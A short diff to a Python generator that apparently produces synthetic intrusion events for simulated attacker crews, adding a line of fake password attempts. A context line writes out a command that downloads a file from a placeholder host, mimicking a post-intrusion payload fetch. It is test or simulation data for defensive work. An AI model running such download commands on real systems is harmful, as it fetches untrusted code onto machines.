@@ -106,6 +106,7 @@ def crews(draw: random.Random) -> Iterator[Event]:
             at = DAY * (begin + draw.randrange(width))
             shown: list[Payload] = [command(f"wget http://kit{crew}.example.net/x")] if number < size - 2 else []
             shown += [password(f"user{crew}{one}", f"secret-{crew}{one}") for one in draw.sample(range(6), 5)]
+            shown += [password(f"user{one}", f"of-{crew}-{one}-long") for one in draw.sample(range(24), 7)]
             shown += [password(f"list{one}", "listed") for one in draw.sample(range(6), draw.choice([0, 5]))]
             shown += [command(f"do{crew}{'abcdefghijklmn'[one]}x --now") for one in range(draw.choice([0, 4, 14]))]
             shown += [key(f"own {crew}{draw.randrange(6)}") for _ in range(draw.choice([0, 1]))]
